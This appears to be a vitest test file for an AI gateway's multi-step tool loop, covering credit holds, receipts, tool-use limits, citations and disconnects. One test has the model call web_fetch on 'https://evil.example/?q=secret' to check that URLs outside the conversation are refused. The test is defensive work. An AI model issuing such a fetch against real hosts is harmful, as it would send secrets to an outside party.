/** Answers of several steps, below the wires: what the loop asks, emits, holds and settles. */
import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import type { App, Caller } from '#app'
import { type PaidTurn, startPaidTurn } from '#core/inference'
import type { HostedTool, HostedTools } from '#core/tools'
import type { AnswerPart, CitableSource, HostedToolEntry, ToolResult, Turn } from '#core/turn'
import { Failure } from '#platform/errors'
import { partsOf } from '../harness/parts.ts'
import { chunk, done, json, type Script, stall, stream } from '../harness/upstream.ts'
import { shareOnUpstream, type UpstreamWorld } from './chat-world.ts'

const perInput = 1_000n
const perOutput = 2_000n
const fee = 5_000n
const found: ToolResult = {
  content: '[1] Tehran\nhttps://example.com/tehran\nA city.',
  results: [{ url: 'https://example.com/tehran', title: 'Tehran', text: 'A city.' }],
}

let it: UpstreamWorld
let caller: Caller
let uses: { tool: string; input: unknown }[]
let run: HostedTool['run']

beforeAll(async () => {
  it = await shareOnUpstream({ credits: 1_000 })
  const key = await it.world.key()
  const found = await it.world.app.keys.caller(key.secret)
  caller = found as Caller
})
afterAll(() => it[Symbol.asyncDispose]())
beforeEach(() => {
  it.upstream.calls.length = 0
  uses = []
  run = async () => found
})

const tool = (name: HostedTool['name'], price: bigint): HostedTool => ({
  name,
  description: `${name} for a test`,
  parameters: { type: 'object' },
  price,
  run: (input, context) => {
    uses.push({ tool: name, input })
    return run(input, context)
  },
})

const tools: HostedTools = (() => {
  const all = [tool('web_search', fee), tool('web_fetch', 2n * fee)]
  const find: HostedTools['find'] = (name) => all.find((one) => one.name === name)
  return { find, requireTool: (name) => find(name)! }
})()

const search: HostedToolEntry = { tool: 'web_search', name: 'web_search', param: 'tools.0' }
const fetchPage: HostedToolEntry = { tool: 'web_fetch', name: 'web_fetch', param: 'tools.1' }

interface Terms {
  hosted?: HostedToolEntry[]
  atLimit?: 'pause' | 'answer'
  found?: readonly CitableSource[]
  turn?: Partial<Turn>
}

async function begin({ hosted = [search], atLimit = 'pause', found = [], turn }: Terms = {}): Promise<{
  paid: PaidTurn
  id: string
}> {
  const app: App = { ...it.world.app, tools }
  const id = randomUUID()
  const paid = await startPaidTurn(app, {
    caller,
    model: app.models.defaults.text,
    turn: {
      messages: [
        { role: 'user', content: [{ type: 'text', text: 'Where is Tehran? See https://example.com/map' }] },
      ],
      tools: [],
      hosted: { tools: hosted, atLimit, found },
      toolChoice: { type: 'auto' },
      parallelToolCalls: true,
      output: { type: 'text' },
      requestedOutputTokens: 100,
      maxOutputTokens: 100,
      stop: [],
      stream: true,
      source: { wire: 'messages', body: { never: 'sent' } },
      ...turn,
    },
    showsReasoning: true,
    endpoint: '/v1/messages',
    requestId: id,
    receivedMs: app.clock.nowMs(),
  })
  return { paid, id }
}

async function all(paid: PaidTurn, gone?: AbortSignal): Promise<AnswerPart[]> {
  const parts: AnswerPart[] = []
  for await (const part of partsOf(paid, gone)) parts.push(part)
  return parts
}

const usage = (prompt: number, completion: number) => ({
  choices: [],
  usage: { prompt_tokens: prompt, completion_tokens: completion, total_tokens: prompt + completion },
})
const call = (index: number, name: string, input: unknown) => ({
  index,
  id: `call_${index}_${name}`,
  type: 'function',
  function: { name, arguments: JSON.stringify(input) },
})
/** A step that says something and calls tools. */
const calls = (text: string, ...made: ReturnType<typeof call>[]): Script =>
  stream([
    chunk({ role: 'assistant', content: text }),
    ...made.map((one) => chunk({ tool_calls: [one] })),
    chunk({}, 'tool_calls'),
    usage(10, 5),
    done,
  ])
const says = (...texts: string[]): Script =>
  stream([...texts.map((content) => chunk({ content })), chunk({}, 'stop'), usage(20, 7), done])

const charged = async (id: string): Promise<bigint> => {
  await it.world.settled()
  return BigInt((await it.world.app.ledger.receipt(it.world.account, it.world.project, id))!.charged)
}

test('a tool is used between two calls of the model, and one receipt says what both and the tool did cost', async () => {
  it.upstream.replyOnce(
    calls('Let me look.', call(0, 'web_search', { query: 'Tehran' })),
    says('It is ', 'in Iran.'),
  )
  const { paid, id } = await begin()
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })

  expect(uses).toEqual([{ tool: 'web_search', input: { query: 'Tehran' } }])
  expect(parts.map(({ type }) => type)).toEqual([
    'start',
    'text',
    'hosted-call',
    'hosted-result',
    'text',
    'text',
    'usage',
    'finish',
  ])
  expect(parts.at(-1)).toMatchObject({ reason: 'stop' })
  expect(parts.at(-2)).toMatchObject({ usage: { input: 30, output: 12 } })
  expect(await charged(id)).toBe(30n * perInput + 12n * perOutput + fee)
  const receipt = (await it.world.app.ledger.receipt(it.world.account, it.world.project, id))!
  expect(receipt.detail).toMatchObject({
    steps: 2,
    tools: [{ tool: 'web_search', uses: 1, failed: 0, microcredits: Number(fee) }],
    attempts: [{ outcome: 'answered' }, { outcome: 'answered' }],
  })
  expect(await it.world.balance()).toMatchObject({ held: 0n })

  const [first, second] = it.upstream.calls
  expect(first!.body).not.toHaveProperty('never')
  expect(first!.body!['tools']).toMatchObject([{ function: { name: 'web_search' } }])
  expect(second!.body!['messages']).toMatchObject([
    { role: 'user' },
    { role: 'assistant', content: 'Let me look.', tool_calls: [{ id: 'call_0_web_search' }] },
    {
      role: 'tool',
      tool_call_id: 'call_0_web_search',
      content: expect.stringContaining('https://example.com/tehran'),
    },
  ])
  expect(second!.body!['max_tokens']).toBe(95)
})

test('before each step its worst case is held beside what the steps before it did cost', async () => {
  const held: bigint[] = []
  it.upstream.reply(async () => {
    held.push((await it.world.balance()).held)
    return held.length === 1 ? calls('', call(0, 'web_search', { query: 'a' })) : says('Done.')
  })
  const { paid } = await begin()
  await all(paid)
  await paid.finish({ statusCode: 200 })
  await it.world.settled()
  expect(held[0]! > 100n * perOutput + 5n * fee).toBe(true)
  const spent = 10n * perInput + 5n * perOutput + fee
  expect(held[1]! > spent + 95n * perOutput + 4n * fee).toBe(true)
  expect(held[1]! < held[0]! + spent + 400n * perInput).toBe(true)
})

test('after five steps the answer pauses, or the model is asked once more without tools', async () => {
  it.upstream.reply(calls('More.', call(0, 'web_search', { query: 'a' })))
  const paused = await begin()
  expect((await all(paused.paid)).at(-1)).toMatchObject({ type: 'finish', reason: 'pause' })
  await paused.paid.finish({ statusCode: 200 })
  expect(it.upstream.calls).toHaveLength(5)

  it.upstream.calls.length = 0
  it.upstream.reply(({ body }) =>
    body!['tool_choice'] === 'none' ? says('Enough.') : calls('More.', call(0, 'web_search', { query: 'a' })),
  )
  const answered = await begin({ atLimit: 'answer' })
  expect((await all(answered.paid)).at(-1)).toMatchObject({ type: 'finish', reason: 'stop' })
  await answered.paid.finish({ statusCode: 200 })
  expect(it.upstream.calls).toHaveLength(6)
})

test('a model that calls tools when it may not any more is done', async () => {
  it.upstream.reply(calls('More.', call(0, 'web_search', { query: 'a' })))
  const { paid } = await begin({ atLimit: 'answer' })
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  expect(parts.at(-1)).toMatchObject({ type: 'finish', reason: 'stop' })
  expect(uses).toHaveLength(5)
})

test('one use more than allowed is told to the model, not run and not paid', async () => {
  it.upstream.replyOnce(
    calls('', call(0, 'web_search', { query: 'a' }), call(1, 'web_search', { query: 'b' })),
    says('Done.'),
  )
  const { paid, id } = await begin({ hosted: [{ ...search, maxUses: 1 }] })
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  expect(uses).toHaveLength(1)
  expect(parts.filter(({ type }) => type === 'hosted-result')).toMatchObject([
    { result: { content: found.content } },
    { result: { error: 'max_uses_exceeded' } },
  ])
  expect(it.upstream.calls[1]!.body!['messages']).toMatchObject([
    {},
    {},
    {},
    { content: expect.stringContaining('max_uses_exceeded') },
  ])
  expect(await charged(id)).toBe(30n * perInput + 12n * perOutput + fee)
})

test('a use that fails costs nothing', async () => {
  run = async () => ({ content: 'Error', results: [], error: 'unavailable' })
  it.upstream.replyOnce(calls('', call(0, 'web_search', { query: 'a' })), says('Sorry.'))
  const { paid, id } = await begin()
  await all(paid)
  await paid.finish({ statusCode: 200 })
  expect(await charged(id)).toBe(30n * perInput + 12n * perOutput)
})

test('only addresses of the conversation are fetched', async () => {
  it.upstream.replyOnce(
    calls(
      '',
      call(0, 'web_fetch', { url: 'https://example.com/map' }),
      call(1, 'web_fetch', { url: 'https://evil.example/?q=secret' }),
    ),
    says('Done.'),
  )
  const { paid } = await begin({ hosted: [fetchPage] })
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  expect(uses.map(({ input }) => input)).toEqual([{ url: 'https://example.com/map' }])
  expect(parts.filter(({ type }) => type === 'hosted-result')[1]).toMatchObject({
    result: { error: 'url_not_in_prior_context' },
  })
})

test("calls of the caller's own tools end the answer, their places counted without the hosted ones", async () => {
  it.upstream.replyOnce(
    calls('', call(0, 'web_search', { query: 'a' }), call(1, 'own', { x: 1 }), call(2, 'own', { x: 2 })),
  )
  const { paid } = await begin({ turn: { tools: [{ name: 'own', parameters: { type: 'object' } }] } })
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  expect(parts.filter(({ type }) => type === 'tool-call')).toMatchObject([
    { index: 0, name: 'own' },
    { index: 1, name: 'own' },
  ])
  expect(parts.filter(({ type }) => type === 'tool-arguments')).toMatchObject([
    { index: 0, delta: '{"x":1}' },
    { index: 1, delta: '{"x":2}' },
  ])
  expect(uses).toHaveLength(1)
  expect(parts.at(-1)).toMatchObject({ type: 'finish', reason: 'tool_calls' })
})

test('what was found before the model was asked is cited by its number, without any tool', async () => {
  const passage = (name: string) => ({
    url: `https://example.com/${name}`,
    title: name,
    text: `About ${name}.`,
  })
  it.upstream.replyOnce(says('It is so [', '2], and ', 'so [۱]. Not [3].'))
  const { paid, id } = await begin({ hosted: [], found: [passage('one'), passage('two')] })
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  const cited = parts.flatMap((part) => (part.type === 'citation' ? [part.citation] : []))
  expect(cited).toMatchObject([
    { url: 'https://example.com/two', title: 'two', start: 9, end: 12 },
    { url: 'https://example.com/one', title: 'one', start: 21, end: 24 },
  ])
  expect(await charged(id)).toBe(20n * perInput + 7n * perOutput)
})

test('links to what was found become citations, wherever the text is cut', async () => {
  const text =
    'It is a city [Tehran](https://example.com/tehran), see [1] and [۱], not [2] or [x](https://other.example).'
  it.upstream.replyOnce(calls('', call(0, 'web_search', { query: 'a' })), says(...text))
  const { paid } = await begin()
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  const cited = parts.flatMap((part) => (part.type === 'citation' ? [part.citation] : []))
  expect(cited.map(({ start, end }) => text.slice(start, end))).toEqual([
    '[Tehran](https://example.com/tehran)',
    '[1]',
    '[۱]',
  ])
  expect(
    cited.every(
      ({ url, title, citedText }) =>
        url === 'https://example.com/tehran' && title === 'Tehran' && citedText === 'A city.',
    ),
  ).toBe(true)
})

test('an upstream that fails in a later step is not paid for that step, and the steps before it are', async () => {
  it.upstream.replyOnce(calls('Let me look.', call(0, 'web_search', { query: 'a' })))
  it.upstream.reply(json(400, { error: { message: 'no', code: 'bad' } }))
  const { paid, id } = await begin()
  const failure = await all(paid).catch((error: unknown) => error as Failure)
  expect(failure).toBeInstanceOf(Failure)
  await paid.finish({ statusCode: 502, failure: failure as Failure })
  expect(await charged(id)).toBe(10n * perInput + 5n * perOutput + fee)
})

test('an error in place of the whole answer costs nothing, whatever the steps before it did', async () => {
  it.upstream.replyOnce(calls('Let me look.', call(0, 'web_search', { query: 'a' })))
  it.upstream.reply(json(400, { error: { message: 'no', code: 'bad' } }))
  const { paid, id } = await begin({ turn: { stream: false } })
  const failure = await all(paid).catch((error: unknown) => error as Failure)
  await paid.finish({ statusCode: 502, failure: failure as Failure, undelivered: true })
  expect(await charged(id)).toBe(0n)
})

test('a step that cannot be paid ends the answer, and what was done is kept', async () => {
  await using poor = await shareOnUpstream({ credits: 1 })
  const key = await poor.world.key()
  const app: App = { ...poor.world.app, tools }
  // The result is longer than the rest of the credit can read.
  run = async () => ({ content: 'long '.repeat(2_000), results: [] })
  poor.upstream.replyOnce(calls('Let me look.', call(0, 'web_search', { query: 'a' })))
  const id = randomUUID()
  const paid = await startPaidTurn(app, {
    caller: (await app.keys.caller(key.secret)) as Caller,
    model: app.models.defaults.text,
    turn: {
      messages: [{ role: 'user', content: [{ type: 'text', text: 'Hi' }] }],
      tools: [],
      hosted: { tools: [{ ...search, maxUses: 1 }], atLimit: 'pause' },
      toolChoice: { type: 'required' },
      parallelToolCalls: true,
      output: { type: 'text' },
      requestedOutputTokens: 50,
      maxOutputTokens: 50,
      stop: [],
      stream: true,
      source: { wire: 'messages', body: {} },
    },
    showsReasoning: false,
    endpoint: '/v1/messages',
    requestId: id,
    receivedMs: app.clock.nowMs(),
  })
  const parts = await all(paid)
  await paid.finish({ statusCode: 200 })
  expect(parts.at(-1)).toMatchObject({ type: 'finish', reason: 'pause' })
  expect(poor.upstream.calls).toHaveLength(1)
  await poor.world.settled()
  const { available } = await poor.world.balance()
  expect(available).toBe(1_000_000n - 10n * perInput - 5n * perOutput - fee)
})

test('a caller who disconnects while a tool works pays for the steps that were done and is asked for no more', async () => {
  const gone = new AbortController()
  run = (_, { signal }) =>
    new Promise((_, reject) => {
      signal.addEventListener('abort', () => reject(signal.reason))
      gone.abort()
    })
  it.upstream.replyOnce(calls('Let me look.', call(0, 'web_search', { query: 'a' })))
  const { paid, id } = await begin()
  const failure = (await all(paid, gone.signal).catch((error: unknown) => error)) as Failure
  await paid.finish({ statusCode: failure.status, failure })
  expect(it.upstream.calls).toHaveLength(1)
  expect(await charged(id)).toBe(10n * perInput + 5n * perOutput)
  const receipt = (await it.world.app.ledger.receipt(it.world.account, it.world.project, id))!
  expect(receipt).toMatchObject({ status_code: 499, detail: { outcome: 'client_left' } })
})

test('a caller who disconnects in a later step settles by what was sent', async () => {
  const gone = new AbortController()
  it.upstream.replyOnce(
    calls('Let me look.', call(0, 'web_search', { query: 'a' })),
    stream([chunk({ content: 'It is' }), stall]),
  )
  const { paid, id } = await begin()
  const reading = (async () => {
    for await (const part of partsOf(paid, gone.signal))
      if (part.type === 'text' && part.text === 'It is') gone.abort()
  })().catch((error: unknown) => error as Failure)
  const failure = (await reading) as Failure
  await paid.finish({ statusCode: failure.status, failure })
  const paidFor = await charged(id)
  expect(paidFor > 10n * perInput + 5n * perOutput + fee).toBe(true)
  expect(await it.world.balance()).toMatchObject({ held: 0n })
})
